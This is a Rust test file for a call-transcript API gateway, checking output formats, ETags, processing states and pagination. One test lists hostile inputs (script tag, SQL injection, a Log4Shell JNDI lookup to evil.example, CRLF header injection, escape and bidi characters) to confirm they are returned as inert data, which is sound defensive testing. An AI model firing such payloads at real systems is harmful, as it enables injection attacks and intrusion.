//! Transcripts in their forms.

use callweave_model::{AnalyzedCall, Transcript, Utterance, enums::ArtifactState};

use crate::support::{Gateway, sample, spoken};

async fn with_call(call: AnalyzedCall) -> (Gateway, String) {
    let gateway = Gateway::start().await;
    let connection = gateway.connect("main").await;
    let id = gateway.put(connection, vec![call]).await[0];
    (gateway, format!("/v1/calls/{id}/transcript"))
}

#[tokio::test]
async fn a_transcript_is_given_in_the_form_that_is_asked_for() {
    let (gateway, path) = with_call(spoken("a", "2026-03-02T09:15:00Z")).await;
    let json = gateway.get(&path).await;
    assert_eq!(json.header("content-type"), "application/json");
    assert_eq!(json.header("x-transcript-state"), "ready");
    let document = json.json();
    assert_eq!(document["state"], "ready");
    assert_eq!(document["utterances"][1]["start_ms"], 1_600);
    assert_eq!(document["parties"][0]["name"], "Nadia Testova");
    let text = gateway.get(&format!("{path}?format=text")).await;
    assert_eq!(text.header("content-type"), "text/plain; charset=utf-8");
    assert_eq!(
        text.text(),
        "Nadia Testova: Good day, this is the umbrella shop\n\
         Customer: I want a red umbrella & <quickly>\n"
    );
    let vtt = gateway.get_with(&path, &[("accept", "text/vtt")]).await;
    assert_eq!(vtt.header("content-type"), "text/vtt; charset=utf-8");
    assert!(
        vtt.text()
            .starts_with("WEBVTT\n\n00:00:00.000 --> 00:00:01.500\n")
    );
    assert!(
        vtt.text()
            .contains("<v Customer>I want a red umbrella &amp; &lt;quickly&gt;")
    );
    let srt = gateway
        .get_with(&path, &[("accept", "application/x-subrip")])
        .await;
    assert!(
        srt.text()
            .starts_with("1\n00:00:00,000 --> 00:00:01,500\nNadia Testova: Good")
    );
    let format_wins = gateway
        .get_with(&format!("{path}?format=srt"), &[("accept", "text/vtt")])
        .await;
    assert_eq!(
        format_wins.header("content-type"),
        "application/x-subrip; charset=utf-8"
    );
    let odd = gateway.get_with(&path, &[("accept", "image/png")]).await;
    assert_eq!(
        (odd.status, odd.code().as_str()),
        (406, "gateway.not_acceptable")
    );
}

#[tokio::test]
async fn each_form_has_its_own_tag() {
    let (gateway, path) = with_call(spoken("a", "2026-03-02T09:15:00Z")).await;
    let json = gateway.get(&path).await.header("etag").to_owned();
    let text = gateway.get(&format!("{path}?format=text")).await;
    assert_ne!(json, text.header("etag"));
    let again = gateway.get_with(&path, &[("if-none-match", &json)]).await;
    assert_eq!((again.status, again.body.len()), (304, 0));
    let again = gateway
        .get_with(
            &format!("{path}?format=text"),
            &[("if-none-match", text.header("etag"))],
        )
        .await;
    assert_eq!((again.status, again.body.len()), (304, 0));
}

#[tokio::test]
async fn not_ready_is_a_state_and_never_a_404() {
    let mut call = sample("a", "2026-03-02T09:15:00Z");
    call.set_artifact("transcript", ArtifactState::Processing);
    let (gateway, path) = with_call(call).await;
    let document = gateway.get(&path).await;
    assert_eq!(document.status, 200);
    assert_eq!(document.json()["state"], "processing");
    assert_eq!(document.json()["utterances"], serde_json::json!([]));
    for format in ["text", "vtt", "srt"] {
        let words = gateway.get(&format!("{path}?format={format}")).await;
        assert_eq!(
            (words.status, words.header("x-transcript-state")),
            (200, "processing")
        );
    }
}

#[tokio::test]
async fn times_are_not_invented() {
    let mut call = spoken("a", "2026-03-02T09:15:00Z");
    let utterances = &mut call.transcript.as_mut().unwrap().utterances;
    utterances[1].start_ms = None;
    let (gateway, path) = with_call(call).await;
    for format in ["vtt", "srt"] {
        let refused = gateway.get(&format!("{path}?format={format}")).await;
        assert_eq!(
            (refused.status, refused.code().as_str()),
            (406, "gateway.no_timed_transcript")
        );
    }
    assert_eq!(
        gateway.get(&format!("{path}?format=text")).await.status,
        200
    );
}

#[tokio::test]
async fn a_transcript_without_utterances_is_its_text() {
    let mut call = sample("a", "2026-03-02T09:15:00Z");
    let mut transcript = Transcript::of_utterances("a", Vec::new());
    transcript.text = Some("Hello <b>".to_owned());
    call.transcript = Some(transcript);
    let (gateway, path) = with_call(call).await;
    assert_eq!(gateway.get(&path).await.json()["text"], "Hello <b>");
    let text = gateway.get(&format!("{path}?format=text")).await;
    assert_eq!(text.text(), "Hello <b>");
    assert_eq!(text.header("x-content-type-options"), "nosniff");
    assert_eq!(gateway.get(&format!("{path}?format=vtt")).await.status, 406);
}

#[tokio::test]
async fn case_036_two_hundred_thousand_phrases_are_read_page_by_page() {
    const PHRASES: i32 = 200_000;
    let said = |seq| Utterance {
        seq,
        text: format!("phrase {seq}"),
        ..Utterance::default()
    };
    let mut call = sample("a", "2026-03-02T09:15:00Z");
    call.transcript = Some(Transcript::of_utterances(
        "a",
        (0..PHRASES).map(said).collect(),
    ));
    let (gateway, path) = with_call(call).await;
    let (mut after, mut next_seq, mut tags) = (String::new(), 0_i64, Vec::new());
    loop {
        let page = gateway.get(&format!("{path}?limit=10000{after}")).await;
        tags.push(page.header("etag").to_owned());
        let page = page.json();
        assert_eq!(page["utterances_total"], PHRASES);
        for utterance in page["utterances"].as_array().unwrap() {
            assert_eq!(utterance["seq"], next_seq);
            next_seq += 1;
        }
        match page["next_after"].as_i64() {
            Some(place) => after = format!("&after={place}"),
            None => break,
        }
    }
    assert_eq!(next_seq, i64::from(PHRASES));
    tags.sort_unstable();
    tags.dedup();
    assert_eq!(tags.len(), 20, "each page has its own tag");
}

/// Hostile text is data: it comes back letter for letter, as JSON and as text that no browser
/// takes for anything else; and what was wrong with the documents is told.
#[tokio::test]
async fn case_038_hostile_text_is_stored_and_served_as_data() {
    let hostile = [
        "<script>alert(1)</script>",
        "'; DROP TABLE calls; --",
        "${jndi:ldap://evil.example/x}",
        "\u{1b}[31mred",
        "one\r\nSet-Cookie: two",
        "\u{202e}back\u{2066}",
    ];
    let said = |(seq, text): (usize, &&str)| Utterance {
        seq: i32::try_from(seq).unwrap(),
        text: (*text).to_owned(),
        ..Utterance::default()
    };
    let mut call = sample("a", "2026-03-02T09:15:00Z");
    call.subject = Some(hostile.concat());
    call.flags.insert("duplicate_keys".to_owned());
    let utterances = hostile.iter().enumerate().map(said).collect();
    call.transcript = Some(Transcript::of_utterances("a", utterances));
    let (gateway, path) = with_call(call).await;
    let answer = gateway.get(&path).await;
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    assert_eq!(answer.header("content-type"), "application/json");
    let document = answer.json();
    for (place, text) in hostile.iter().enumerate() {
        assert_eq!(document["utterances"][place]["text"], *text);
    }
    let text = gateway.get(&format!("{path}?format=text")).await;
    assert_eq!(text.header("content-type"), "text/plain; charset=utf-8");
    assert_eq!(text.header("x-content-type-options"), "nosniff");
    let call = gateway
        .get(path.trim_end_matches("/transcript"))
        .await
        .json();
    assert_eq!(call["subject"], hostile.concat());
    assert_eq!(
        call["_meta"]["flags"],
        serde_json::json!(["duplicate_keys"])
    );
}

#[tokio::test]
async fn case_036_odd_pages_are_empty_or_refused() {
    let (gateway, path) = with_call(spoken("a", "2026-03-02T09:15:00Z")).await;
    let whole = gateway.get(&path).await.json();
    assert_eq!(whole["next_after"], serde_json::Value::Null);
    let total = whole["utterances_total"].as_u64().unwrap();
    assert_eq!(whole["utterances"].as_array().unwrap().len() as u64, total);
    let first = gateway.get(&format!("{path}?limit=1")).await.json();
    assert_eq!(
        (&first["next_after"], &first["utterances"][0]["seq"]),
        (&0.into(), &0.into())
    );
    let beyond = gateway.get(&format!("{path}?after=99999999")).await.json();
    assert_eq!(beyond["utterances"], serde_json::json!([]));
    assert_eq!(beyond["utterances_total"], total);
    for query in [
        "limit=0",
        "limit=10001",
        "limit=-1",
        "after=-1",
        "format=text&limit=1",
        "format=vtt&after=0",
    ] {
        let refused = gateway.get(&format!("{path}?{query}")).await;
        assert_eq!(
            (refused.status, refused.code().as_str()),
            (400, "gateway.invalid_query"),
            "{query}"
        );
    }
}
